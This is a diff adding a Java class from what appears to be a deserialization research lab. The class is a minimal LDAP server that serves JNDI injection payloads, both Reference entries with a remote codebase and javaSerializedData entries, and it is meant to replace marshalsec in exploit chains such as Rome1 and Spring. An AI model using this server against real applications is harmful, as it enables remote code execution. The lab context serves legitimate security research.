@@ -0,0 +1,523 @@
+package org.su18.serialize.lab;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.ObjectOutputStream;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.URL;
+import java.nio.ByteBuffer;
+import java.nio.channels.SelectionKey;
+import java.nio.channels.SocketChannel;
+import java.nio.charset.Charset;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.atomic.AtomicLong;
+
+/**
+ * 进程内的最小 LDAP 服务，用于 JNDI 注入相关的链（Rome1 的 ldap://127.0.0.1:1389/...、Spring、XBean、Resin 等），
+ * 不再需要单独启动 marshalsec 之类的 LDAP 服务
+ * <p>
+ * 只实现 JNDI lookup 用到的部分：匿名 Bind、按 baseObject 查表的 Search、Unbind，其余操作返回 unwillingToPerform。
+ * 表中的每个条目在 put 时就编码成完整的 BER 响应（SearchResultEntry + SearchResultDone），
+ * messageID 统一编码为 4 字节整数，响应时只复制模板并填入请求的 messageID
+ * <p>
+ * 条目有两种：
+ * Reference         objectClass=javaNamingReference，带 javaClassName/javaFactory/javaCodeBase，低版本 JDK 会从 codebase 加载工厂类
+ * javaSerializedData 客户端直接反序列化其中的数据，用于高版本 JDK
+ * <p>
+ * 单个 selector 线程处理全部连接，默认只监听 127.0.0.1
+ * <p>
+ * 用法：java LdapReferenceServer [端口]，放入一个序列化的字符串和一个 Reference，并用 InitialContext 查找验证
+ *
+ * @author su18
+ */
+public class LdapReferenceServer extends SelectorServer {
+
+	private static final Charset UTF8 = Charset.forName("UTF-8");
+
+	private static final int MAX_MESSAGE = 64 * 1024;
+
+	private static final int SUCCESS = 0, NO_SUCH_OBJECT = 32, UNWILLING_TO_PERFORM = 53;
+
+	private static final int BIND_REQUEST = 0x60, UNBIND_REQUEST = 0x42, SEARCH_REQUEST = 0x63, ABANDON_REQUEST = 0x50;
+
+	private static final Template BIND_RESPONSE = new Template(result(0x61, SUCCESS));
+
+	private static final Template NOT_FOUND = new Template(result(0x65, NO_SUCH_OBJECT));
+
+	private final Map<String, Template> entries = new ConcurrentHashMap<String, Template>();
+
+	private final Map<String, AtomicLong> hits = new ConcurrentHashMap<String, AtomicLong>();
+
+	private final AtomicLong searches = new AtomicLong();
+
+	private final AtomicLong misses = new AtomicLong();
+
+
+	/**
+	 * @param address 监听地址，端口为 0 时由系统分配
+	 * @throws IOException 监听失败
+	 */
+	public LdapReferenceServer(InetSocketAddress address) throws IOException {
+		super(address, "ldap");
+	}
+
+	/**
+	 * 监听 127.0.0.1 上的随机端口
+	 */
+	public LdapReferenceServer() throws IOException {
+		this(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0));
+	}
+
+	public static void main(String[] args) throws Exception {
+		int                 port   = args.length > 0 ? Integer.parseInt(args[0]) : 1389;
+		long                start  = System.nanoTime();
+		LdapReferenceServer server = new LdapReferenceServer(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), port)).start();
+		System.out.printf("* LDAP %s started in %.1fms%n", server.getURL(""), (System.nanoTime() - start) / 1e6);
+
+		server.putSerialized("Serialized", "su18-ldap");
+		server.putReference("Exploit", "Exploit", "Exploit", new URL("http://127.0.0.1:9999/"));
+
+		// ldap:// 地址由 URL 上下文处理，与目标应用中 lookup 的行为一致
+		javax.naming.Context context = new javax.naming.InitialContext();
+
+		LatencyRecorder recorder = new LatencyRecorder();
+		long            begin    = System.nanoTime();
+		Object          last     = null;
+		for (int i = 0; i < 200; i++) {
+			long t = System.nanoTime();
+			last = context.lookup(server.getURL("Serialized"));
+			recorder.record(System.nanoTime() - t);
+		}
+		System.out.println(recorder.summary("lookup Serialized", System.nanoTime() - begin) + " -> " + last);
+		try {
+			System.out.println("lookup Exploit -> " + context.lookup(server.getURL("Exploit")));
+		} catch (Exception e) {
+			System.out.println("lookup Exploit -> " + e);
+		}
+		try {
+			context.lookup(server.getURL("Missing"));
+		} catch (Exception e) {
+			System.out.println("lookup Missing -> " + e.getClass().getSimpleName());
+		}
+		System.out.println("searches=" + server.getSearches() + ", misses=" + server.getMisses() + ", hits(Serialized)=" + server.getHits("Serialized"));
+		server.close();
+	}
+
+	public LdapReferenceServer start() {
+		startLoop();
+		return this;
+	}
+
+	/**
+	 * 返回 ldap://host:port/path 形式的地址
+	 */
+	public String getURL(String path) {
+		InetAddress address = channel.socket().getInetAddress();
+		String      host    = address.isAnyLocalAddress() ? "127.0.0.1" : address.getHostAddress();
+		return "ldap://" + host + ":" + getPort() + "/" + path;
+	}
+
+	/**
+	 * 放入一个 JNDI Reference 条目
+	 *
+	 * @param path      baseObject，也就是 ldap://host:port/ 之后的部分
+	 * @param className javaClassName
+	 * @param factory   javaFactory，工厂类名
+	 * @param codebase  javaCodeBase，可以使用 CodebaseServer.getURL()，为 null 时不写
+	 */
+	public void putReference(String path, String className, String factory, URL codebase) {
+		List<byte[]> attributes = new ArrayList<byte[]>();
+		attributes.add(attribute("objectClass", "javaNamingReference".getBytes(UTF8)));
+		attributes.add(attribute("javaClassName", className.getBytes(UTF8)));
+		attributes.add(attribute("javaFactory", factory.getBytes(UTF8)));
+		if (codebase != null) {
+			attributes.add(attribute("javaCodeBase", codebase.toString().getBytes(UTF8)));
+		}
+		put(path, attributes);
+	}
+
+	/**
+	 * 放入一个 javaSerializedData 条目，客户端查找时会直接反序列化
+	 *
+	 * @param path       baseObject
+	 * @param className  javaClassName，只用于展示
+	 * @param serialized 序列化数据
+	 */
+	public void putSerialized(String path, String className, byte[] serialized) {
+		List<byte[]> attributes = new ArrayList<byte[]>();
+		attributes.add(attribute("javaClassName", className.getBytes(UTF8)));
+		attributes.add(attribute("javaSerializedData", serialized));
+		put(path, attributes);
+	}
+
+	/**
+	 * 序列化对象后放入
+	 */
+	public void putSerialized(String path, Object object) throws IOException {
+		ByteArrayOutputStream bos = new ByteArrayOutputStream();
+		ObjectOutputStream    oos = new ObjectOutputStream(bos);
+		oos.writeObject(object);
+		oos.close();
+		putSerialized(path, object.getClass().getName(), bos.toByteArray());
+	}
+
+	public boolean remove(String path) {
+		hits.remove(path);
+		return entries.remove(path) != null;
+	}
+
+	/**
+	 * 某个条目被查找的次数，条目不存在时返回 -1
+	 */
+	public long getHits(String path) {
+		AtomicLong count = hits.get(path);
+		return count == null ? -1 : count.get();
+	}
+
+	public long getSearches() {
+		return searches.get();
+	}
+
+	public long getMisses() {
+		return misses.get();
+	}
+
+	private void put(String path, List<byte[]> attributes) {
+		ByteArrayOutputStream list = new ByteArrayOutputStream();
+		for (byte[] attribute : attributes) {
+			list.write(attribute, 0, attribute.length);
+		}
+		byte[] entry = tlv(0x64, concat(tlv(0x04, path.getBytes(UTF8)), tlv(0x30, list.toByteArray())));
+		entries.put(path, new Template(entry, result(0x65, SUCCESS)));
+		hits.put(path, new AtomicLong());
+	}
+
+	@Override
+	Connection newConnection() {
+		return new Connection();
+	}
+
+	@Override
+	void read(SelectionKey key) throws IOException {
+		SocketChannel client     = (SocketChannel) key.channel();
+		Connection    connection = (Connection) key.attachment();
+		if (client.read(connection.input) < 0) {
+			connection.closeAfterWrite = true;
+		}
+
+		ByteBuffer input = connection.input;
+		input.flip();
+		int length;
+		while (!connection.closeAfterWrite && (length = messageLength(input)) > 0) {
+			int start = input.position();
+			handle(connection, input.array(), start, start + length);
+			input.position(start + length);
+		}
+		if (input.hasRemaining() && messageLength(input) < 0) {
+			// 格式错误或超过长度限制
+			connection.closeAfterWrite = true;
+		}
+		input.compact();
+
+		if (connection.output.isEmpty()) {
+			if (connection.closeAfterWrite) {
+				close(key);
+			}
+		} else {
+			write(key);
+		}
+	}
+
+	/**
+	 * 计算缓冲开头一条完整 LDAPMessage 的长度
+	 *
+	 * @return 不完整时返回 0，格式错误返回 -1
+	 */
+	private static int messageLength(ByteBuffer input) {
+		byte[] array     = input.array();
+		int    position  = input.position();
+		int    available = input.remaining();
+		if (available < 2) {
+			return 0;
+		}
+		if ((array[position] & 0xff) != 0x30) {
+			return -1;
+		}
+
+		int first = array[position + 1] & 0xff;
+		int header, length;
+		if (first < 0x80) {
+			header = 2;
+			length = first;
+		} else {
+			int bytes = first & 0x7f;
+			if (bytes == 0 || bytes > 3) {
+				return -1;
+			}
+			if (available < 2 + bytes) {
+				return 0;
+			}
+			header = 2 + bytes;
+			length = 0;
+			for (int i = 0; i < bytes; i++) {
+				length = (length << 8) | (array[position + 2 + i] & 0xff);
+			}
+		}
+		if (header + length > MAX_MESSAGE) {
+			return -1;
+		}
+		return available < header + length ? 0 : header + length;
+	}
+
+	/**
+	 * 处理一条完整的 LDAPMessage
+	 */
+	private void handle(Connection connection, byte[] array, int offset, int end) {
+		Reader reader = new Reader(array, offset, end);
+		try {
+			reader.enter(0x30);
+			int messageID = reader.readInt();
+			int op        = reader.tag();
+
+			switch (op) {
+				case BIND_REQUEST:
+					connection.queue(BIND_RESPONSE, messageID);
+					break;
+				case SEARCH_REQUEST:
+					reader.enter(SEARCH_REQUEST);
+					String   base     = new String(reader.readOctets(0x04), UTF8);
+					Template template = entries.get(base);
+					searches.incrementAndGet();
+					if (template == null) {
+						misses.incrementAndGet();
+						template = NOT_FOUND;
+					} else {
+						// 条目可能同时被 remove
+						AtomicLong count = hits.get(base);
+						if (count != null) {
+							count.incrementAndGet();
+						}
+					}
+					connection.queue(template, messageID);
+					if (log.isEnabled()) {
+						log.log("ldap.search", "base", base, "found", template != NOT_FOUND);
+					}
+					break;
+				case UNBIND_REQUEST:
+					connection.closeAfterWrite = true;
+					break;
+				case ABANDON_REQUEST:
+					break;
+				default:
+					int response = responseTag(op);
+					if (response < 0) {
+						connection.closeAfterWrite = true;
+					} else {
+						connection.queue(new Template(result(response, UNWILLING_TO_PERFORM)), messageID);
+					}
+			}
+		} catch (IllegalArgumentException e) {
+			connection.closeAfterWrite = true;
+		}
+	}
+
+	/**
+	 * 其他请求对应的响应 tag，DelRequest 是 primitive 编码，不能简单地加 1
+	 *
+	 * @return 未知请求返回 -1
+	 */
+	private static int responseTag(int op) {
+		switch (op) {
+			case 0x66: // ModifyRequest
+				return 0x67;
+			case 0x68: // AddRequest
+				return 0x69;
+			case 0x4a: // DelRequest
+				return 0x6b;
+			case 0x6c: // ModifyDNRequest
+				return 0x6d;
+			case 0x6e: // CompareRequest
+				return 0x6f;
+			case 0x77: // ExtendedRequest
+				return 0x78;
+			default:
+				return -1;
+		}
+	}
+
+	/**
+	 * LDAPResult：resultCode、matchedDN、diagnosticMessage
+	 */
+	private static byte[] result(int tag, int code) {
+		return tlv(tag, concat(new byte[]{0x0a, 0x01, (byte) code}, tlv(0x04, new byte[0]), tlv(0x04, new byte[0])));
+	}
+
+	/**
+	 * PartialAttribute：type 和只有一个值的 SET
+	 */
+	private static byte[] attribute(String type, byte[] value) {
+		return tlv(0x30, concat(tlv(0x04, type.getBytes(UTF8)), tlv(0x31, tlv(0x04, value))));
+	}
+
+	private static byte[] tlv(int tag, byte[] value) {
+		ByteArrayOutputStream bos = new ByteArrayOutputStream(value.length + 6);
+		bos.write(tag);
+		int length = value.length;
+		if (length < 0x80) {
+			bos.write(length);
+		} else if (length < 0x100) {
+			bos.write(0x81);
+			bos.write(length);
+		} else if (length < 0x10000) {
+			bos.write(0x82);
+			bos.write(length >>> 8);
+			bos.write(length);
+		} else {
+			bos.write(0x84);
+			bos.write(length >>> 24);
+			bos.write(length >>> 16);
+			bos.write(length >>> 8);
+			bos.write(length);
+		}
+		bos.write(value, 0, value.length);
+		return bos.toByteArray();
+	}
+
+	private static byte[] concat(byte[]... parts) {
+		ByteArrayOutputStream bos = new ByteArrayOutputStream();
+		for (byte[] part : parts) {
+			bos.write(part, 0, part.length);
+		}
+		return bos.toByteArray();
+	}
+
+	/**
+	 * 预先编码的响应，由若干条 LDAPMessage 组成，每条的 messageID 都是 4 字节，记录其偏移
+	 */
+	private static final class Template {
+
+		private final byte[] bytes;
+
+		private final int[] idOffsets;
+
+		Template(byte[]... ops) {
+			ByteArrayOutputStream bos     = new ByteArrayOutputStream();
+			int[]                 offsets = new int[ops.length];
+			for (int i = 0; i < ops.length; i++) {
+				byte[] message = tlv(0x30, concat(new byte[]{0x02, 0x04, 0, 0, 0, 0}, ops[i]));
+				// tag、长度之后是 INTEGER 的 tag 和长度
+				offsets[i] = bos.size() + (message.length - ops[i].length - 6) + 2;
+				bos.write(message, 0, message.length);
+			}
+			this.bytes = bos.toByteArray();
+			this.idOffsets = offsets;
+		}
+
+		ByteBuffer render(int messageID) {
+			byte[] copy = bytes.clone();
+			for (int offset : idOffsets) {
+				copy[offset] = (byte) (messageID >>> 24);
+				copy[offset + 1] = (byte) (messageID >>> 16);
+				copy[offset + 2] = (byte) (messageID >>> 8);
+				copy[offset + 3] = (byte) messageID;
+			}
+			return ByteBuffer.wrap(copy);
+		}
+	}
+
+	/**
+	 * 顺序读取 BER，只支持请求中用到的 tag
+	 */
+	private static final class Reader {
+
+		private final byte[] array;
+
+		private final int end;
+
+		private int position;
+
+		Reader(byte[] array, int offset, int end) {
+			this.array = array;
+			this.position = offset;
+			this.end = end;
+		}
+
+		int tag() {
+			check(1);
+			return array[position] & 0xff;
+		}
+
+		/**
+		 * 读取 tag 和长度，进入构造类型的内容
+		 */
+		int enter(int tag) {
+			if (tag() != tag) {
+				throw new IllegalArgumentException("unexpected tag " + tag());
+			}
+			position++;
+			return readLength();
+		}
+
+		int readInt() {
+			int length = enter(0x02);
+			if (length < 1 || length > 4) {
+				throw new IllegalArgumentException("bad integer length " + length);
+			}
+			check(length);
+			int value = array[position];
+			for (int i = 1; i < length; i++) {
+				value = (value << 8) | (array[position + i] & 0xff);
+			}
+			position += length;
+			return value;
+		}
+
+		byte[] readOctets(int tag) {
+			int length = enter(tag);
+			check(length);
+			byte[] value = new byte[length];
+			System.arraycopy(array, position, value, 0, length);
+			position += length;
+			return value;
+		}
+
+		private int readLength() {
+			check(1);
+			int first = array[position++] & 0xff;
+			if (first < 0x80) {
+				return first;
+			}
+			int bytes = first & 0x7f;
+			if (bytes == 0 || bytes > 3) {
+				throw new IllegalArgumentException("bad length");
+			}
+			check(bytes);
+			int length = 0;
+			for (int i = 0; i < bytes; i++) {
+				length = (length << 8) | (array[position++] & 0xff);
+			}
+			return length;
+		}
+
+		private void check(int n) {
+			if (position + n > end) {
+				throw new IllegalArgumentException("truncated message");
+			}
+		}
+	}
+
+	private static final class Connection extends SelectorServer.Connection {
+
+		Connection() {
+			super(MAX_MESSAGE);
+		}
+
+		void queue(Template template, int messageID) {
+			output.add(template.render(messageID));
+		}
+	}
+}